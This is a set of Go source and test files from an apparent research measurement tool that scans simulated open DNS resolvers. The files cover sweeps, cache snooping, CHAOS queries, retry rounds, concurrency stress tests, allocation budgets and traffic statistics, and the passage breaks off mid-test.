	// round 2 (10ms) run; round 3 finds 30ms ≥ 15ms and stops. Partial
	// coverage, no error — degradation is quiet.
	if got := rec.total(); got != 2+2+2 {
		t.Errorf("total sends = %d, want 6 (initial + 2 rounds before deadline)", got)
	}
}

func TestRetryRoundsStopsWhenAnswered(t *testing.T) {
	s := New(&nullTransport{}, Options{
		Workers:     1,
		SettleDelay: NoSettle,
		Clock:       newFakeClock(),
	})
	rec := newRetryRecorder()
	err := s.retryRounds(context.Background(), 5, 3, rec.send, func(int) bool { return false })
	if err != nil {
		t.Fatal(err)
	}
	if got := rec.total(); got != 3 {
		t.Errorf("total sends = %d, want 3 (everything answered after round 0)", got)
	}
}

func TestRetryRoundsContextDeath(t *testing.T) {
	s := New(&nullTransport{}, Options{
		Workers:     1,
		SettleDelay: NoSettle,
		Clock:       newFakeClock(),
	})
	ctx, cancel := context.WithCancel(context.Background())
	cancel()
	err := s.retryRounds(ctx, 3, 4, func(int, int) {}, func(int) bool { return true })
	if err != context.Canceled {
		t.Errorf("retryRounds on dead ctx = %v, want context.Canceled", err)
	}
}
