package scanner

import "goingwild/internal/metrics"

// scanMetrics holds the scanner's pre-resolved metric handles, one pair
// of sent/recv counters per scan entrypoint plus the retry and pacing
// accounting the paper's operators watched live (§2.2, §5). Every field
// is nil when Options.Metrics is unset, and nil handles are no-ops, so
// an uninstrumented scanner pays a single nil check per update and the
// zero-alloc hot paths stay zero-alloc.
//
// All counters except rateStalls are deterministic: probes sent are a
// pure function of the target set and the (settle-barriered) response
// pattern, and responses received are a pure function of the seeded
// world — so two runs of the same scan must agree on every value.
// rateStalls counts limiter sleeps, which depend on real elapsed time;
// it is registered with the Timing class and asserted only under a
// fake clock.
type scanMetrics struct {
	sweepSent, sweepRecv     *metrics.Counter
	domainsSent, domainsRecv *metrics.Counter
	chaosSent, chaosRecv     *metrics.Counter
	aliveSent, aliveRecv     *metrics.Counter
	snoopSent, snoopRecv     *metrics.Counter
	probeSent, probeRecv     *metrics.Counter
	tcpSent, tcpRecv         *metrics.Counter
	// retryRounds counts retry rounds that actually retransmitted;
	// retrySpend counts the retransmissions they sent.
	retryRounds *metrics.Counter
	retrySpend  *metrics.Counter
	// settleWaits counts settle barriers that waited for in-flight
	// responses (a deterministic call count; the waited duration flows
	// through the Clock).
	settleWaits *metrics.Counter
	// rateStalls counts rate-limiter sleeps (Timing class).
	rateStalls *metrics.Counter
	// batchSize distributes the per-SendBatch probe counts the batched
	// send path dispatched. The multiset of batch sizes is deterministic
	// (full streamBatch flushes plus one remainder per stream), even
	// though which worker flushed which batch is not.
	batchSize *metrics.Histogram
}

// newScanMetrics resolves the handle set against a registry; a nil
// registry yields the all-nil (no-op) set.
func newScanMetrics(r *metrics.Registry) scanMetrics {
	if r == nil {
		return scanMetrics{}
	}
	return scanMetrics{
		sweepSent:   r.Counter("scanner.sweep.sent"),
		sweepRecv:   r.Counter("scanner.sweep.recv"),
		domainsSent: r.Counter("scanner.domains.sent"),
		domainsRecv: r.Counter("scanner.domains.recv"),
		chaosSent:   r.Counter("scanner.chaos.sent"),
		chaosRecv:   r.Counter("scanner.chaos.recv"),
		aliveSent:   r.Counter("scanner.alive.sent"),
		aliveRecv:   r.Counter("scanner.alive.recv"),
		snoopSent:   r.Counter("scanner.snoop.sent"),
		snoopRecv:   r.Counter("scanner.snoop.recv"),
		probeSent:   r.Counter("scanner.probe.sent"),
		probeRecv:   r.Counter("scanner.probe.recv"),
		tcpSent:     r.Counter("scanner.tcp.sent"),
		tcpRecv:     r.Counter("scanner.tcp.recv"),
		retryRounds: r.Counter("scanner.retry.rounds"),
		retrySpend:  r.Counter("scanner.retry.spend"),
		settleWaits: r.Counter("scanner.settle.waits"),
		rateStalls:  r.TimingCounter("scanner.rate.stalls"),
		batchSize:   r.Histogram("transport.batch.size", batchSizeBounds),
	}
}
