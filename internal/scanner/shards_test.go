package scanner

import (
	"sync"
	"testing"
)

func TestShardedMapInsertOnce(t *testing.T) {
	m := newShardedMap[int](0)
	if !m.InsertOnce(7, 1) {
		t.Fatal("first insert rejected")
	}
	if m.InsertOnce(7, 2) {
		t.Fatal("duplicate insert accepted")
	}
	v, ok := m.Get(7)
	if !ok || v != 1 {
		t.Fatalf("Get(7) = %d,%v want 1,true (first writer wins)", v, ok)
	}
	if _, ok := m.Get(8); ok {
		t.Fatal("Get of absent key reported present")
	}
	if m.Len() != 1 {
		t.Fatalf("Len = %d want 1", m.Len())
	}
}

// TestShardedMapConcurrent is the race stress for the sharded collector:
// many goroutines hammer overlapping key ranges with InsertOnce and Get
// while another samples Len. Run under -race (make race covers this
// package) to certify the striping.
func TestShardedMapConcurrent(t *testing.T) {
	const (
		workers = 16
		keys    = 4096
	)
	m := newShardedMap[uint32](keys)
	done := make(chan struct{})
	var sampler sync.WaitGroup
	sampler.Add(1)
	go func() {
		defer sampler.Done()
		for {
			select {
			case <-done:
				return
			default:
				_ = m.Len()
			}
		}
	}()

	var wg sync.WaitGroup
	for w := 0; w < workers; w++ {
		wg.Add(1)
		go func(w uint32) {
			defer wg.Done()
			// Each worker walks the full key space from a different
			// start, so every key sees contending writers.
			for i := uint32(0); i < keys; i++ {
				k := (i + w*131) % keys
				m.InsertOnce(k, k^w)
				if v, ok := m.Get(k); !ok || v^k >= workers {
					t.Errorf("key %d reads %d,%v after insert", k, v, ok)
					return
				}
			}
		}(uint32(w))
	}
	wg.Wait()
	close(done)
	sampler.Wait()

	if got := m.Len(); got != keys {
		t.Fatalf("Len = %d want %d", got, keys)
	}
	for k := uint32(0); k < keys; k++ {
		v, ok := m.Get(k)
		if !ok {
			t.Fatalf("key %d missing", k)
		}
		// First writer wins: the stored value must be k^w for exactly one
		// of the racing workers, whichever got there first.
		if w := v ^ k; w >= workers {
			t.Fatalf("key %d holds %d, not written by any worker", k, v)
		}
	}
}

func TestStripedMutexCoversAllKeys(t *testing.T) {
	var sm stripedMutex
	counters := make([]int, 1024)
	var wg sync.WaitGroup
	for w := 0; w < 8; w++ {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := range counters {
				mu := sm.of(uint32(i))
				mu.Lock()
				counters[i]++
				mu.Unlock()
			}
		}()
	}
	wg.Wait()
	for i, c := range counters {
		if c != 8 {
			t.Fatalf("counter %d = %d want 8", i, c)
		}
	}
}

func TestShardOfSpread(t *testing.T) {
	// Sweep keys must spread across stripes; a degenerate hash would
	// re-serialize the collector.
	var hits [nShards]int
	for i := uint32(1); i <= 1<<14; i++ {
		hits[shardOf(i)]++
	}
	for s, h := range hits {
		if h == 0 {
			t.Fatalf("stripe %d never hit over 16k sequential keys", s)
		}
	}
}
