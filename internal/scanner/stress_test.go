package scanner

import (
	"fmt"
	"testing"
	"time"

	"goingwild/internal/wildnet"
)

// TestSweepStressParallel drives several full sweeps at once, each with
// its own world and a wide worker pool. Its job is to give the race
// detector concurrent coverage of sendAll's fan-out, the shared rate
// limiter, and the receiver path (see `make race`).
func TestSweepStressParallel(t *testing.T) {
	t.Parallel()
	for i := 0; i < 4; i++ {
		seed := uint32(100 + i)
		t.Run(fmt.Sprintf("world%d", i), func(t *testing.T) {
			t.Parallel()
			w, tr := testWorld(t, 14)
			defer tr.Close()
			str, stats := WithStats(tr)
			s := New(str, Options{Workers: 16, RatePPS: 2_000_000, SettleDelay: NoSettle})
			res, err := s.Sweep(14, seed, w.ScanBlacklist())
			if err != nil {
				t.Fatal(err)
			}
			if res.Total() == 0 {
				t.Fatal("stress sweep found no responders")
			}
			if snap := stats.Snapshot(); snap.Sent == 0 || snap.Received == 0 {
				t.Errorf("stats missed traffic: %v", snap)
			}
		})
	}
}

// TestSweepDeterministicAcrossWorkerCounts pins the determinism contract
// under concurrency: the responder list must be identical no matter how
// many goroutines raced to send the probes. Loss stays at its default —
// the world draws it per packet, not per arrival order, so even the
// dropped set must not depend on scheduling.
func TestSweepDeterministicAcrossWorkerCounts(t *testing.T) {
	t.Parallel()
	var first *SweepResult
	for _, workers := range []int{1, 4, 16} {
		w, err := wildnet.NewWorld(wildnet.DefaultConfig(14))
		if err != nil {
			t.Fatal(err)
		}
		tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
		s := New(tr, Options{Workers: workers, SettleDelay: time.Millisecond})
		res, err := s.Sweep(14, 77, w.ScanBlacklist())
		tr.Close()
		if err != nil {
			t.Fatal(err)
		}
		if first == nil {
			first = res
			continue
		}
		if len(res.Responders) != len(first.Responders) {
			t.Fatalf("workers=%d found %d responders, workers=1 found %d",
				workers, len(res.Responders), len(first.Responders))
		}
		for i, r := range res.Responders {
			if r != first.Responders[i] {
				t.Fatalf("workers=%d responder[%d] = %+v, workers=1 has %+v",
					workers, i, r, first.Responders[i])
			}
		}
	}
}
