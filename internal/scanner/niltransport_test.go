package scanner

import (
	"context"
	"errors"
	"testing"

	"goingwild/internal/dnswire"
)

// TestNilTransportGuards drives every public scan entrypoint against a
// scanner built with a nil transport. Each one must refuse cleanly —
// ErrNoTransport from the error-returning entrypoints, a false ok from
// the boolean ones — instead of panicking on the first send. This is
// the regression test for the constructor-misuse crash: callers that
// wire the transport conditionally (e.g. -udp fallback paths) used to
// take a nil-pointer panic deep inside the send loop.
func TestNilTransportGuards(t *testing.T) {
	ctx := context.Background()
	resolvers := []uint32{0x01020304, 0x05060708}

	tests := []struct {
		name string
		call func(s *Scanner) error
	}{
		{"SweepContext", func(s *Scanner) error {
			_, err := s.SweepContext(ctx, 8, 1, nil)
			return err
		}},
		{"ProbeContext", func(s *Scanner) error {
			_, err := s.ProbeContext(ctx, resolvers[0], "example.com", dnswire.TypeA, dnswire.ClassIN)
			return err
		}},
		{"ProbeAliveContext", func(s *Scanner) error {
			_, err := s.ProbeAliveContext(ctx, resolvers)
			return err
		}},
		{"ScanDomainsContext", func(s *Scanner) error {
			_, err := s.ScanDomainsContext(ctx, resolvers, []string{"example.com"})
			return err
		}},
		{"ScanChaosContext", func(s *Scanner) error {
			_, err := s.ScanChaosContext(ctx, resolvers)
			return err
		}},
		{"SnoopRoundContext", func(s *Scanner) error {
			_, err := s.SnoopRoundContext(ctx, resolvers, "com", 1)
			return err
		}},
		{"LookupPTR", func(s *Scanner) error {
			name, ok := s.LookupPTR(resolvers[0], resolvers[1])
			if ok || name != "" {
				return errors.New("LookupPTR succeeded without a transport")
			}
			return ErrNoTransport
		}},
		{"LookupA", func(s *Scanner) error {
			addrs, rcode, ok := s.LookupA(resolvers[0], "example.com")
			if ok || len(addrs) != 0 || rcode != 0 {
				return errors.New("LookupA succeeded without a transport")
			}
			return ErrNoTransport
		}},
		{"ProbeTC", func(s *Scanner) error {
			msgs, ok := s.ProbeTC(resolvers[0], "example.com", dnswire.TypeA, dnswire.ClassIN)
			if ok || len(msgs) != 0 {
				return errors.New("ProbeTC succeeded without a transport")
			}
			return ErrNoTransport
		}},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			s := New(nil, Options{SettleDelay: NoSettle})
			if err := tc.call(s); !errors.Is(err, ErrNoTransport) {
				t.Errorf("%s with nil transport: got %v, want ErrNoTransport", tc.name, err)
			}
		})
	}
}
