package scanner

import (
	"context"

	"goingwild/internal/dnswire"
	"goingwild/internal/lfsr"
)

// SnoopObs is one cache-snooping observation (§2.6): the resolver's view
// of a TLD's NS entry at probe time.
type SnoopObs struct {
	Answered bool
	// Empty marks NOERROR responses without records.
	Empty bool
	// Cached marks an NS answer being present.
	Cached bool
	// TTL is the remaining TTL of the cached entry.
	TTL uint32
}

// SnoopRound sends one non-recursive NS query for tld to every resolver;
// it is the ctx-less wrapper over SnoopRoundContext.
func (s *Scanner) SnoopRound(resolvers []uint32, tld string, seq uint16) map[uint32]SnoopObs {
	out, _ := s.SnoopRoundContext(bgCtx, resolvers, tld, seq)
	return out
}

// SnoopRoundContext sends one non-recursive NS query for tld to every
// resolver. seq is the per-round sequence number; a stateful resolver
// sees it as the transaction ID, which is how often it has been probed so
// far. Responses are attributed by source address, so the handful of
// resolvers answering from foreign addresses drop out — the same
// attrition the paper tolerates for this experiment. A cancelled round
// returns the observations gathered so far plus ctx.Err().
func (s *Scanner) SnoopRoundContext(ctx context.Context, resolvers []uint32, tld string, seq uint16) (map[uint32]SnoopObs, error) {
	if s.tr == nil {
		return nil, ErrNoTransport
	}
	collected := newShardedMap[SnoopObs](len(resolvers) / 2)
	// want is written before the sends and only read by receivers.
	want := make(map[uint32]struct{}, len(resolvers))
	for _, u := range resolvers {
		want[u] = struct{}{}
	}
	s.tr.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		v := dnswire.GetView()
		defer dnswire.PutView(v)
		if err := v.Reset(payload); err != nil || !v.QR() {
			return
		}
		u := addrU32(src)
		if _, ok := want[u]; !ok {
			return
		}
		s.m.snoopRecv.Inc()
		obs := SnoopObs{Answered: true}
		if ttl, ok := v.FirstAnswerNS(); ok {
			obs.Cached = true
			obs.TTL = ttl
		} else {
			obs.Empty = true
		}
		collected.InsertOnce(u, obs)
	})
	s.sendAll(ctx, len(resolvers), func(i int) {
		q := dnswire.NewQuery(seq, tld, dnswire.TypeNS, dnswire.ClassIN)
		q.Header.RD = false // snooping must not trigger recursion
		wire, err := q.PackBytes()
		if err != nil {
			return
		}
		s.m.snoopSent.Inc()
		//lint:allow errdrop snoop-probe send failures are modeled packet loss
		s.tr.Send(ctx, lfsr.U32ToAddr(resolvers[i]), 53, s.opts.BasePort, wire)
	})
	err := s.settle(ctx)
	out := make(map[uint32]SnoopObs, collected.Len())
	collected.Collect(func(u uint32, obs SnoopObs) {
		out[u] = obs
	})
	return out, err
}
