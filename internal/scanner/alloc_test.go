package scanner

import (
	"net/netip"
	"testing"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
)

// The sweep budget is the point of the zero-alloc engine: these tests pin
// the send and receive paths at zero heap allocations per probe at steady
// state, so a regression (a string conversion, an escaping slice, a full
// Message unpack) fails CI instead of silently halving throughput.

func TestSweepSendPathAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("race detector instruments allocations")
	}
	base := dnswire.CanonicalName(domains.ScanBase)
	baseWire, err := dnswire.EncodeNameWire(base)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 0, 128)
	u := uint32(0x0A0B0C0D)
	allocs := testing.AllocsPerRun(500, func() {
		prefix := cachePrefix(u)
		wire := dnswire.AppendTargetQuery(buf[:0], uint16(u)^uint16(u>>16),
			prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
		buf = wire[:0]
		u++
	})
	if allocs != 0 {
		t.Fatalf("sweep probe assembly allocates %.1f per probe, want 0", allocs)
	}
}

// TestSweepRetrySendPathAllocs pins the retry rounds to the same budget:
// salting the anti-caching prefix with the attempt number must not cost
// an allocation, or a lossy-profile sweep (which retries a large share of
// the population) would pay per-probe garbage the census never did.
func TestSweepRetrySendPathAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("race detector instruments allocations")
	}
	base := dnswire.CanonicalName(domains.ScanBase)
	baseWire, err := dnswire.EncodeNameWire(base)
	if err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 0, 128)
	u := uint32(0x0A0B0C0D)
	allocs := testing.AllocsPerRun(500, func() {
		for attempt := 1; attempt <= 2; attempt++ {
			prefix := cachePrefixN(u, attempt)
			wire := dnswire.AppendTargetQuery(buf[:0], uint16(u)^uint16(u>>16),
				prefix[:], u, baseWire, dnswire.TypeA, dnswire.ClassIN)
			buf = wire[:0]
		}
		u++
	})
	if allocs != 0 {
		t.Fatalf("retry probe assembly allocates %.1f per probe, want 0", allocs)
	}
}

func TestSweepReceivePathAllocs(t *testing.T) {
	if raceEnabled {
		t.Skip("race detector instruments allocations")
	}
	// Build one realistic sweep response: the echoed question plus an A
	// answer.
	u := uint32(0x7F000001)
	prefix := cachePrefix(u)
	name := dnswire.EncodeTargetQName(string(prefix[:]), lfsr.U32ToAddr(u), domains.ScanBase)
	m := dnswire.NewQuery(uint16(u)^uint16(u>>16), name, dnswire.TypeA, dnswire.ClassIN)
	m.Header.QR = true
	m.AddAnswer(name, dnswire.ClassIN, 60, dnswire.A{Addr: netip.MustParseAddr("192.0.2.1")})
	payload, err := m.PackBytes()
	if err != nil {
		t.Fatal(err)
	}
	src := lfsr.U32ToAddr(u)

	st := newSweepCollector(domains.ScanBase, 16)
	st.receive(src, 53, 33000, payload) // first delivery inserts
	// Steady state: duplicate responses (and by extension every parse)
	// must not touch the heap.
	allocs := testing.AllocsPerRun(500, func() {
		st.receive(src, 53, 33000, payload)
	})
	if allocs != 0 {
		t.Fatalf("sweep receive path allocates %.1f per response, want 0", allocs)
	}
	if st.responses.Len() != 1 {
		t.Fatalf("collector holds %d responders, want 1", st.responses.Len())
	}
	r, ok := st.responses.Get(u)
	if !ok || r.Addr != u || !r.Answered || r.RCode != dnswire.RCodeNoError {
		t.Fatalf("bad responder: %+v ok=%v", r, ok)
	}
}

func TestNOERRORPreallocates(t *testing.T) {
	res := &SweepResult{Responders: []Responder{
		{Addr: 1, RCode: dnswire.RCodeNoError},
		{Addr: 2, RCode: dnswire.RCodeRefused},
		{Addr: 3, RCode: dnswire.RCodeNoError},
	}}
	out := res.NOERROR()
	if len(out) != 2 || cap(out) != 2 {
		t.Fatalf("NOERROR len=%d cap=%d, want exact-size 2/2", len(out), cap(out))
	}
	if out[0] != 1 || out[1] != 3 {
		t.Fatalf("NOERROR order: %v", out)
	}
	if got := (&SweepResult{}).NOERROR(); got != nil {
		t.Fatalf("empty NOERROR = %v, want nil", got)
	}
}
