package scanner

import (
	"context"
	"fmt"
	"sync"
	"sync/atomic"
	"time"
)

// Stats counts a scanner's traffic, for operator dashboards and the
// abuse-avoidance reporting the paper's operators practiced (rate
// limiting, opt-out handling, §2.2/§5).
//
// The elapsed-time base is stamped lazily at the first Send, not at wrap
// time: a wrapped transport often sits idle through world construction
// and target generation, and charging that setup window to the scan
// would understate Rate(). startedAt is an atomic pointer because the
// wrapper is shared across sender goroutines; the sync.Once guarantees
// exactly one stamp even when many senders race the first probe.
type Stats struct {
	sent      atomic.Uint64
	received  atomic.Uint64
	bytesOut  atomic.Uint64
	bytesIn   atomic.Uint64
	clock     Clock
	startOnce sync.Once
	startedAt atomic.Pointer[time.Time]
}

// markStarted stamps the elapsed-time base on the first probe.
func (s *Stats) markStarted() {
	s.startOnce.Do(func() {
		t := s.clock.Now()
		s.startedAt.Store(&t)
	})
}

// Snapshot is a point-in-time view of the counters.
type Snapshot struct {
	Sent, Received    uint64
	BytesOut, BytesIn uint64
	Elapsed           time.Duration
}

// Rate returns the send rate in packets per second.
func (s Snapshot) Rate() float64 {
	if s.Elapsed <= 0 {
		return 0
	}
	return float64(s.Sent) / s.Elapsed.Seconds()
}

// ResponseRatio returns responses per probe.
func (s Snapshot) ResponseRatio() float64 {
	if s.Sent == 0 {
		return 0
	}
	return float64(s.Received) / float64(s.Sent)
}

// String renders the snapshot for logs.
func (s Snapshot) String() string {
	return fmt.Sprintf("sent=%d recv=%d (%.1f%%) rate=%.0f pps out=%dB in=%dB",
		s.Sent, s.Received, 100*s.ResponseRatio(), s.Rate(), s.BytesOut, s.BytesIn)
}

// statsTransport wraps a Transport with counting.
type statsTransport struct {
	inner Transport
	stats *Stats
}

// WithStats wraps a transport so that all traffic through it is counted.
// It returns the wrapped transport and the live counters. Elapsed time
// is measured against SystemClock; tests use WithStatsClock.
func WithStats(inner Transport) (Transport, *Stats) {
	return WithStatsClock(inner, SystemClock)
}

// WithStatsClock is WithStats with an injected clock, so tests can
// assert on Elapsed and Rate exactly.
func WithStatsClock(inner Transport, clock Clock) (Transport, *Stats) {
	if clock == nil {
		clock = SystemClock
	}
	st := &Stats{clock: clock}
	return &statsTransport{inner: inner, stats: st}, st
}

// Snapshot reads the counters. Elapsed is zero until the first probe is
// sent (the clock starts with the traffic, not with the wrapping).
func (s *Stats) Snapshot() Snapshot {
	snap := Snapshot{
		Sent:     s.sent.Load(),
		Received: s.received.Load(),
		BytesOut: s.bytesOut.Load(),
		BytesIn:  s.bytesIn.Load(),
	}
	if start := s.startedAt.Load(); start != nil {
		snap.Elapsed = s.clock.Now().Sub(*start)
	}
	return snap
}

// Send implements Transport.
func (t *statsTransport) Send(ctx context.Context, dst netip4, dstPort, srcPort uint16, payload []byte) error {
	t.stats.markStarted()
	t.stats.sent.Add(1)
	t.stats.bytesOut.Add(uint64(len(payload)))
	return t.inner.Send(ctx, dst, dstPort, srcPort, payload)
}

// SetReceiver implements Transport, interposing the counters.
func (t *statsTransport) SetReceiver(f func(src netip4, srcPort, dstPort uint16, payload []byte)) {
	t.inner.SetReceiver(func(src netip4, srcPort, dstPort uint16, payload []byte) {
		t.stats.received.Add(1)
		t.stats.bytesIn.Add(uint64(len(payload)))
		f(src, srcPort, dstPort, payload)
	})
}

// Close implements Transport.
func (t *statsTransport) Close() error { return t.inner.Close() }

// QueryTCP forwards DNS-over-TCP when the wrapped transport supports it,
// keeping the wrapper transparent for truncation fallback.
func (t *statsTransport) QueryTCP(dst netip4, payload []byte) ([]byte, bool) {
	tq, ok := t.inner.(TCPQuerier)
	if !ok {
		return nil, false
	}
	t.stats.markStarted()
	t.stats.sent.Add(1)
	t.stats.bytesOut.Add(uint64(len(payload)))
	resp, ok := tq.QueryTCP(dst, payload)
	if ok {
		t.stats.received.Add(1)
		t.stats.bytesIn.Add(uint64(len(resp)))
	}
	return resp, ok
}
