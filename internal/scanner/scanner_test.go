package scanner

import (
	"math"
	"testing"
	"time"

	"goingwild/internal/dnswire"
	"goingwild/internal/domains"
	"goingwild/internal/lfsr"
	"goingwild/internal/wildnet"
)

func testWorld(t testing.TB, order uint) (*wildnet.World, *wildnet.MemTransport) {
	t.Helper()
	w, err := wildnet.NewWorld(wildnet.DefaultConfig(order))
	if err != nil {
		t.Fatal(err)
	}
	return w, wildnet.NewMemTransport(w, wildnet.VantagePrimary)
}

func testScanner(tr Transport) *Scanner {
	return New(tr, Options{Workers: 4, Retries: 1, SettleDelay: time.Millisecond})
}

func TestSweepFindsPopulation(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	bl := w.ScanBlacklist()
	res, err := s.Sweep(16, 12345, bl)
	if err != nil {
		t.Fatal(err)
	}
	if want := uint64(1<<16-1) - bl.Size(); res.Probed != want {
		t.Errorf("probed %d targets, want %d", res.Probed, want)
	}
	// Ground truth: count world resolvers directly.
	want := 0
	for u := uint32(1); u < 1<<16; u++ {
		if w.ResolverAt(u, wildnet.At(0)) && w.VisibleFrom(u, wildnet.VantagePrimary, wildnet.At(0)) {
			want++
		}
	}
	got := res.Total()
	if math.Abs(float64(got-want)) > float64(want)*0.05 {
		t.Errorf("sweep found %d responders, world has %d", got, want)
	}
	if res.ByRCode[dnswire.RCodeNoError] == 0 || res.ByRCode[dnswire.RCodeRefused] == 0 {
		t.Errorf("rcode histogram incomplete: %v", res.ByRCode)
	}
	if res.ByRCode[dnswire.RCodeNoError] <= res.ByRCode[dnswire.RCodeRefused] {
		t.Error("NOERROR not the dominant class")
	}
}

func TestSweepRecoveryExact(t *testing.T) {
	// With zero loss the sweep must find exactly the resolving set.
	cfg := wildnet.DefaultConfig(16)
	cfg.Loss = 0
	w, err := wildnet.NewWorld(cfg)
	if err != nil {
		t.Fatal(err)
	}
	tr := wildnet.NewMemTransport(w, wildnet.VantagePrimary)
	defer tr.Close()
	s := New(tr, Options{Workers: 4, SettleDelay: time.Millisecond})
	res, err := s.Sweep(16, 7, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	want := map[uint32]bool{}
	for u := uint32(1); u < 1<<16; u++ {
		if w.ResolverAt(u, wildnet.At(0)) && w.VisibleFrom(u, wildnet.VantagePrimary, wildnet.At(0)) {
			want[u] = true
		}
	}
	if res.Total() != len(want) {
		t.Errorf("sweep found %d, want exactly %d", res.Total(), len(want))
	}
	for _, r := range res.Responders {
		if !want[r.Addr] {
			t.Errorf("phantom responder %d", r.Addr)
		}
	}
}

func TestSweepRespectsBlacklist(t *testing.T) {
	_, tr := testWorld(t, 16)
	defer tr.Close()
	bl := lfsr.NewBlacklist()
	if err := bl.AddCIDR("0.0.128.0/17"); err != nil { // upper half of the space
		t.Fatal(err)
	}
	s := testScanner(tr)
	res, err := s.Sweep(16, 5, bl)
	if err != nil {
		t.Fatal(err)
	}
	if res.Probed >= 1<<15 {
		t.Errorf("probed %d targets despite blacklist", res.Probed)
	}
	for _, r := range res.Responders {
		if r.Addr >= 1<<15 {
			t.Errorf("responder %d inside blacklisted range", r.Addr)
		}
	}
}

func TestSweepDetectsMisSourced(t *testing.T) {
	w, tr := testWorld(t, 18)
	defer tr.Close()
	s := testScanner(tr)
	res, err := s.Sweep(18, 5, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	frac := float64(res.MisSourcedCount()) / float64(res.Total())
	if frac < 0.01 || frac > 0.06 {
		t.Errorf("mis-sourced share = %.3f, want ≈ 0.027 (§2.2)", frac)
	}
}

func TestDomainScanRoundTrip(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	sweep, err := s.Sweep(16, 9, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	if len(resolvers) < 100 {
		t.Fatalf("only %d NOERROR resolvers", len(resolvers))
	}
	names := []string{domains.GroundTruth, "chase.com", "ghoogle.com"}
	res, err := s.ScanDomains(resolvers, names)
	if err != nil {
		t.Fatal(err)
	}
	answered := 0
	gtCorrect := 0
	want, _ := w.TrustedResolve(domains.GroundTruth)
	for ri := range resolvers {
		a := res.Answers[0][ri]
		if !a.Answered() {
			continue
		}
		answered++
		for _, addr := range a.Addrs {
			if addr == want[0] {
				gtCorrect++
				break
			}
		}
	}
	if answered < len(resolvers)*9/10 {
		t.Errorf("only %d/%d resolvers answered the GT probe", answered, len(resolvers))
	}
	if gtCorrect < answered*8/10 {
		t.Errorf("only %d/%d GT answers correct", gtCorrect, answered)
	}
}

func TestDomainScanAttributionViaPortScramble(t *testing.T) {
	// Across a large population some resolvers rewrite response ports;
	// attribution must still succeed via the 0x20 bits.
	w, tr := testWorld(t, 18)
	defer tr.Close()
	s := testScanner(tr)
	sweep, err := s.Sweep(18, 3, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	res, err := s.ScanDomains(resolvers, []string{"thepiratebay.se"})
	if err != nil {
		t.Fatal(err)
	}
	rewritten := 0
	for ri := range resolvers {
		if res.Answers[0][ri].PortRewritten {
			rewritten++
		}
	}
	if rewritten == 0 {
		t.Error("no port-rewritten responses recovered via 0x20 (expected ≈1%)")
	}
}

func TestDomainScanDetectsDoubleResponses(t *testing.T) {
	w, tr := testWorld(t, 20)
	defer tr.Close()
	s := testScanner(tr)
	sweep, err := s.Sweep(20, 3, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	res, err := s.ScanDomains(resolvers, []string{"facebook.com"})
	if err != nil {
		t.Fatal(err)
	}
	doubles := 0
	for ri := range resolvers {
		if res.Answers[0][ri].Responses > 1 {
			doubles++
		}
	}
	if doubles == 0 {
		t.Error("no double responses observed for a GFW domain")
	}
}

func TestChaosScan(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	sweep, err := s.Sweep(16, 9, w.ScanBlacklist())
	if err != nil {
		t.Fatal(err)
	}
	resolvers := sweep.NOERROR()
	res, err := s.ScanChaos(resolvers)
	if err != nil {
		t.Fatal(err)
	}
	if res.Responded() < len(resolvers)*9/10 {
		t.Errorf("only %d/%d CHAOS responses", res.Responded(), len(resolvers))
	}
	versions, errors := 0, 0
	for i := range res.Answers {
		a := &res.Answers[i]
		if a.BindRCode == dnswire.RCodeRefused || a.BindRCode == dnswire.RCodeServFail {
			errors++
		}
		if a.BindText != "" {
			versions++
		}
	}
	if versions == 0 || errors == 0 {
		t.Errorf("CHAOS classes missing: %d versions, %d errors", versions, errors)
	}
}

func TestScanDomainsRejectsOversizedPopulation(t *testing.T) {
	_, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	big := make([]uint32, dnswire.MaxProbeID+2)
	if _, err := s.ScanDomains(big, []string{"x.example"}); err == nil {
		t.Error("oversized resolver list accepted")
	}
}

func TestProbeReturnsResponses(t *testing.T) {
	w, tr := testWorld(t, 16)
	defer tr.Close()
	s := testScanner(tr)
	// Find an honest resolver.
	var target uint32
	for u := uint32(0); u < 1<<16; u++ {
		if w.ResolverAt(u, wildnet.At(0)) {
			target = u
			break
		}
	}
	msgs := s.Probe(target, domains.GroundTruth, dnswire.TypeA, dnswire.ClassIN)
	if len(msgs) == 0 {
		t.Error("probe got no response (loss retry not expected here)")
	}
}
