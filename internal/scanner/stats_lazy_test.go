package scanner

import (
	"context"
	"net/netip"
	"sync"
	"testing"
	"time"
)

// TestStatsLazyStartExcludesSetup pins the lazy elapsed-time base: the
// clock starts at the first Send, not when the transport is wrapped.
// Before this fix, world construction and target generation were
// charged to the scan window, understating Rate() by whatever the
// setup cost happened to be.
func TestStatsLazyStartExcludesSetup(t *testing.T) {
	fc := newFakeClock()
	inner := &nullTransport{}
	tr, stats := WithStatsClock(inner, fc)
	tr.SetReceiver(func(netip.Addr, uint16, uint16, []byte) {})

	// A long idle setup window must not accrue elapsed time.
	fc.Advance(10 * time.Second)
	if snap := stats.Snapshot(); snap.Elapsed != 0 || snap.Rate() != 0 {
		t.Fatalf("pre-traffic snapshot: Elapsed=%v Rate=%v, want 0 and 0", snap.Elapsed, snap.Rate())
	}

	payload := make([]byte, 8)
	dst := netip.MustParseAddr("192.0.2.1")
